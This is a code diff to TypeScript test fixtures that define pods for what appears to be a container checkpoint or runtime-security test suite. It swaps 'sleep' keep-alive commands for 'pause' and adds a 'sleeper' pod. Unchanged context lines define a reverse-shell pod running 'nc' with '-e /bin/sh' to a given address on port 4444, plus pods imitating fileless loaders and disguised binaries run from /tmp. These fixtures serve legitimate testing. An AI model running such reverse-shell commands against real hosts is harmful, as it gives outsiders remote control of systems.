@@ -55,23 +55,26 @@ export const peer = pod(SHOP, 'peer', [{ name: 'listener', command: ['answer', '
 /** Reverse shells to an address, dialled by a program of their own and by busybox's nc. */
 export function reverseShell(address: string) {
   return pod(SHOP, 'reverse-shell', [
-    { name: 'dial', command: ['sh', '-c', `dial ${address} 4444 & exec sleep 1000000`] },
+    { name: 'dial', command: ['sh', '-c', `dial ${address} 4444 & exec pause`] },
     { name: 'nc', command: ['nc', address, '4444', '-e', '/bin/sh'] },
   ]);
 }
 
 export const family = pod(SHOP, 'family', [{ name: 'family', command: ['family'] }]);
 export const fileless = pod(SHOP, 'fileless', [
-  { name: 'fileless', command: ['sh', '-c', 'loader & exec sleep 1000000'] },
+  { name: 'fileless', command: ['sh', '-c', 'loader & exec pause'] },
 ]);
 export const vanished = pod(SHOP, 'vanished', [
-  { name: 'vanished', command: ['sh', '-c', 'cp /bin/vanish /tmp/update; /tmp/update & exec sleep 1000000'] },
+  { name: 'vanished', command: ['sh', '-c', 'cp /bin/vanish /tmp/update; /tmp/update & exec pause'] },
 ]);
 export const unread = pod(SHOP, 'unread', [{ name: 'unread', command: ['unread'] }]);
 /** Needs `file-locks` in runc.conf. */
 export const kinds = pod(SHOP, 'kinds', [{ name: 'kinds', command: ['kinds'] }]);
 /** Needs `force-irmap` and `irmap-scan-path=/etc` in runc.conf. */
 export const watch = pod(SHOP, 'watch', [{ name: 'watch', command: ['watch'] }]);
+
+/** A container that a capture ends: CRIU interrupts nanosleep, on which busybox's sleep exits. */
+export const sleeper = pod(SHOP, 'sleeper', [{ name: 'sleeper', command: ['sleep', '1000000'] }]);
 
 /** One process that holds this much memory. */
 export function hoard(mebibytes: number) {
@@ -85,7 +88,7 @@ export const zoo = pod(SHOP, 'zoo', [
     command: [
       'sh',
       '-c',
-      'family & loader & cp /bin/vanish /tmp/update; /tmp/update & unread & kinds & exec sleep 1000000',
+      'family & loader & cp /bin/vanish /tmp/update; /tmp/update & unread & kinds & exec pause',
     ],
   },
 ]);
